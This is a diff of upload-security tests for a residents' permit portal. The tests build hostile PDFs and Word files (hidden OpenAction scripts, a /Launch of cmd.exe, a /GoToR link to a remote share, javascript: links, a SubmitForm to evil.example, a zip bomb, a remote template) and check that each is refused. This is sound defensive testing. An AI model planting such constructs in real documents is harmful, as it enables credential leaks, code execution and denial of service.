@@ -4,6 +4,8 @@
  * and say clearly why. Each test makes its own tenant and resident (beforeEach), so no test depends on
  * what another stored or changed, and none cleans up after itself.
  */
+import { once } from 'node:events';
+import { crc32, createDeflateRaw } from 'node:zlib';
 import { beforeEach, describe, expect, it } from 'vitest';
 import { templateDocumentId } from '../requests/index.js';
 import { testApp } from '../test/support.js';
@@ -11,14 +13,20 @@ import { type FilePart, type Resident, TYPE_MESSAGE, uploadHarness } from '../te
 import { createRequestAt } from './document-fixtures.js';
 import {
   concat,
+  DOCX_CONTENT_TYPES,
   MIME,
   sampleDocx,
+  sampleDocxOf,
   sampleJpeg,
   sampleOle2,
   samplePdf,
+  samplePdfOf,
+  samplePdfWithObjectStream,
   samplePng,
   sampleXlsx,
   sampleZip,
+  zipOf,
+  zipPart,
 } from './sample-files.js';
 
 const { app, db } = await testApp();
@@ -227,6 +235,257 @@ describe('hostile uploads: the content decides, nothing bad is stored', () => {
     const asText = await upload(who, null, { p_filename: 'x.pdf', p_file_content: '%PDF-1.4 ...' } as never);
     expect(asText.statusCode).toBe(400);
     expect(await storedCount(db, who.tenant.id)).toBe(0);
+  });
+});
+
+const ACTIVE_MESSAGE = /^This file contains active content \(such as scripts, macros, automatic actions/;
+const PAGES = ['<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>'];
+const CATALOGUE_OPENING_10 = '<< /Type /Catalog /Pages 2 0 R /OpenAction 10 0 R >>';
+/** What pdf.js lists as the document's OpenAction script for every file below that carries it. */
+const ALERT = '<< /S /JavaScript /JS (app.alert(1)) >>';
+/** A catalogue, and one page whose whole area is a link annotation (object 4) with the given action. */
+const pdfWithLink = (action: string) =>
+  samplePdfOf([
+    '<< /Type /Catalog /Pages 2 0 R >>',
+    PAGES[0] as string,
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>',
+    `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] /A ${action} >>`,
+  ]);
+const DOCUMENT_XML = (body: string) =>
+  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body>${body}</w:body></w:document>`;
+const RELATIONSHIPS = (items: string) =>
+  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${items}</Relationships>`;
+const RELATIONSHIP_TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+
+/** Raw deflate of `size` zero bytes, made a megabyte at a time so the test never holds them all. */
+async function deflatedZeros(size: number): Promise<Uint8Array> {
+  const deflate = createDeflateRaw({ level: 9 });
+  const chunks: Buffer[] = [];
+  deflate.on('data', (chunk: Buffer) => chunks.push(chunk));
+  const ended = once(deflate, 'end');
+  const megabyte = Buffer.alloc(1024 * 1024);
+  for (let written = 0; written < size; written += megabyte.length) {
+    if (!deflate.write(megabyte)) await once(deflate, 'drain');
+  }
+  deflate.end();
+  await ended;
+  return new Uint8Array(Buffer.concat(chunks));
+}
+
+/** A few MB of Word text that compresses like prose, not like one repeated sentence. */
+function honestText(bytes: number): string {
+  const words = [
+    'parkeervergunning',
+    'bewoner',
+    'kenteken',
+    'gemeente',
+    'Amsterdam',
+    'straat',
+    'huurcontract',
+    'datum',
+  ];
+  const more = ['de', 'het', 'een', 'voor', 'van', 'met', 'op', 'en', 'is', 'aan', 'bij', 'naar', 'wordt', 'onze'];
+  let seed = 25;
+  const next = () => {
+    seed = (seed * 1103515245 + 12345) % 2 ** 31;
+    return seed;
+  };
+  const paragraphs: string[] = [];
+  let length = 0;
+  while (length < bytes) {
+    const sentence: string[] = [];
+    for (let i = 0; i < 12; i++) {
+      const list = next() % 3 === 0 ? words : more;
+      sentence.push(`${list[next() % list.length]}${next() % 7 === 0 ? ` ${next() % 10000}` : ''}`);
+    }
+    const paragraph = `<w:p><w:r><w:t xml:space="preserve">${sentence.join(' ')}.</w:t></w:r></w:p>`;
+    paragraphs.push(paragraph);
+    length += paragraph.length;
+  }
+  return paragraphs.join('');
+}
+
+describe('issue 25: PDFs and Word files whose active content the check of issue 18 let through', () => {
+  let who: Resident;
+  beforeEach(async () => {
+    who = await resident({ MAX_UPLOAD_MB: '1' });
+  });
+  /** Why the check refused, from the audit trail (the resident's message is the same for every active content). */
+  const refusalDetail = async () => {
+    const row = await db
+      .selectFrom('audit_log')
+      .select('detail')
+      .where('tenant_id', '=', who.tenant.id)
+      .where('outcome', '=', 'refused')
+      .orderBy('id', 'desc')
+      .executeTakeFirstOrThrow();
+    return String(row.detail);
+  };
+  const refusedPdf = async (data: Uint8Array, reason: RegExp) => {
+    await expectRefused(
+      await upload(who, { filename: 'bewijs.pdf', type: MIME.pdf, data }),
+      who,
+      'UPLOAD_FILE_ACTIVE_CONTENT',
+      ACTIVE_MESSAGE,
+    );
+    expect(await refusalDetail()).toMatch(reason);
+  };
+
+  it('P1. a PDF whose OpenAction script sits in an object stream without /Type /ObjStm (found through /N, /First and the cross-reference stream)', async () => {
+    await refusedPdf(
+      samplePdfWithObjectStream({ objects: [CATALOGUE_OPENING_10, ...PAGES], packed: [ALERT], type: '' }),
+      /JavaScript/,
+    );
+  });
+
+  it('P2. a PDF whose object stream gives its /Type as an indirect reference', async () => {
+    await refusedPdf(
+      samplePdfWithObjectStream({
+        objects: [CATALOGUE_OPENING_10, ...PAGES, '/ObjStm'],
+        packed: [ALERT],
+        type: '/Type 4 0 R',
+      }),
+      /JavaScript/,
+    );
+  });
+
+  it('P3. a PDF whose object stream is FlateDecode behind a PNG predictor (/DecodeParms)', async () => {
+    await refusedPdf(
+      samplePdfWithObjectStream({ objects: [CATALOGUE_OPENING_10, ...PAGES], packed: [ALERT], predictorColumns: 8 }),
+      /JavaScript/,
+    );
+  });
+
+  it('P4. a PDF whose OpenAction object the in-order reading never reaches (an unbalanced string before it), though a viewer finds it by its offset', async () => {
+    await refusedPdf(
+      samplePdfOf(['<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>', ...PAGES, ALERT], { 4: '(\n' }),
+      /JavaScript/,
+    );
+  });
+
+  it('P5. a PDF with an OpenAction that refers to an object that is nowhere in the file', async () => {
+    await refusedPdf(
+      samplePdfOf(['<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R >>', ...PAGES]),
+      /OpenAction that does not go to a page/,
+    );
+  });
+
+  it('P6. a PDF link that opens another file on a remote share (/GoToR, which leaks the Windows login)', async () => {
+    await refusedPdf(
+      pdfWithLink('<< /S /GoToR /F (\\\\\\\\198.51.100.7\\\\share\\\\brief.pdf) /D [0 /Fit] >>'),
+      /GoToR/,
+    );
+  });
+
+  it('P7. a PDF link that starts a program (/Launch with Windows parameters)', async () => {
+    await refusedPdf(pdfWithLink('<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'), /Launch/);
+  });
+
+  it('P8. a PDF link to a javascript: address, in mixed case with white space and a tab inside', async () => {
+    await refusedPdf(pdfWithLink('<< /S /URI /URI ( Java\\tScript:app.alert\\(1\\)) >>'), /javascript: address/);
+    await refusedPdf(
+      pdfWithLink('<< /S /URI /URI <FEFF006A006100760061007300630072006900700074003A0031> >>'),
+      /javascript:/,
+    );
+  });
+
+  it('P9. a PDF link that sends the form to another site (/SubmitForm)', async () => {
+    await refusedPdf(
+      pdfWithLink('<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> /Flags 4 >>'),
+      /SubmitForm/,
+    );
+  });
+
+  it('D1. a DOCX whose part declares 1 KB but inflates to 200 MB (a zip bomb whose directory lies)', async () => {
+    const bomb = zipOf([
+      zipPart('[Content_Types].xml', DOCX_CONTENT_TYPES, true),
+      zipPart('word/document.xml', DOCUMENT_XML('<w:p/>'), true),
+      {
+        name: 'word/media/image1.png',
+        method: 8,
+        stored: await deflatedZeros(200 * 1024 * 1024),
+        size: 1024,
+        crc: crc32(new Uint8Array(1024)),
+      },
+    ]);
+    expect(bomb.length).toBeLessThan(300 * 1024);
+    await expectRefused(
+      await upload(who, { filename: 'huur.docx', type: MIME.docx, data: bomb }),
+      who,
+      'UPLOAD_FILE_EXPANDS',
+      'This Word document unpacks to more than 50 MB or consists of more than 1000 parts. Nothing has been saved. Save it as a PDF and upload that file.',
+    );
+    expect(await refusalDetail()).toMatch(/image1\.png unpacks to more than the 1024 bytes it declares/);
+  });
+
+  it('D2. a DOCX that loads its template from a web address when Word opens it (remote attachedTemplate)', async () => {
+    const docx = sampleDocxOf({
+      'word/document.xml': DOCUMENT_XML('<w:p><w:r><w:t>Huurcontract</w:t></w:r></w:p>'),
+      'word/settings.xml':
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>',
+      'word/_rels/settings.xml.rels': RELATIONSHIPS(
+        `<Relationship Id="rId1" Type="${RELATIONSHIP_TYPE}/attachedTemplate" Target="http://198.51.100.7/sjabloon.dotm" TargetMode="&#x45;xternal"/>`,
+      ),
+    });
+    await expectRefused(
+      await upload(who, { filename: 'huur.docx', type: MIME.docx, data: docx }),
+      who,
+      'UPLOAD_FILE_ACTIVE_CONTENT',
+      ACTIVE_MESSAGE,
+    );
+    expect(await refusalDetail()).toMatch(/attachedTemplate to http:\/\/198\.51\.100\.7\/sjabloon\.dotm/);
+  });
+});
+
+describe('issue 25: the benign twins are still accepted', () => {
+  it('a PDF as current writers make it: objects in a compressed object stream and a cross-reference stream, both behind PNG predictors', async () => {
+    const who = await resident({ MAX_UPLOAD_MB: '1' });
+    await expectStored(
+      await upload(who, {
+        filename: 'bewijs.pdf',
+        type: MIME.pdf,
+        data: samplePdfWithObjectStream({
+          objects: [
+            '<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>',
+            PAGES[0] as string,
+            '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [10 0 R] >>',
+          ],
+          packed: ['<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /GoTo /D [3 0 R /Fit] >> >>'],
+          predictorColumns: 12,
+        }),
+      }),
+      who,
+    );
+  });
+
+  it('a PDF with an ordinary https link', async () => {
+    const who = await resident({ MAX_UPLOAD_MB: '1' });
+    await expectStored(
+      await upload(who, {
+        filename: 'bewijs.pdf',
+        type: MIME.pdf,
+        data: pdfWithLink('<< /S /URI /URI (https://www.amsterdam.nl/parkeren) >>'),
+      }),
+      who,
+    );
+  });
+
+  it('a large honest DOCX (5 MB of text, about 0.5 MB compressed, all of it inflated to check) with an ordinary hyperlink to a web page', async () => {
+    const who = await resident({ MAX_UPLOAD_MB: '1' });
+    const docx = sampleDocxOf({
+      'word/document.xml': DOCUMENT_XML(
+        `<w:p><w:hyperlink r:id="rId1"><w:r><w:t>amsterdam.nl</w:t></w:r></w:hyperlink></w:p>${honestText(5 * 1024 * 1024)}`,
+      ),
+      'word/_rels/document.xml.rels': RELATIONSHIPS(
+        `<Relationship Id="rId1" Type="${RELATIONSHIP_TYPE}/hyperlink" Target="https://www.amsterdam.nl/parkeren" TargetMode="External"/>`,
+      ),
+    });
+    expect(docx.length).toBeGreaterThan(400 * 1024);
+    const row = await expectStored(
+      await upload(who, { filename: 'huurcontract.docx', type: MIME.docx, data: docx }),
+      who,
+    );
+    expect(row.content_type).toBe(MIME.docx);
   });
 });
 
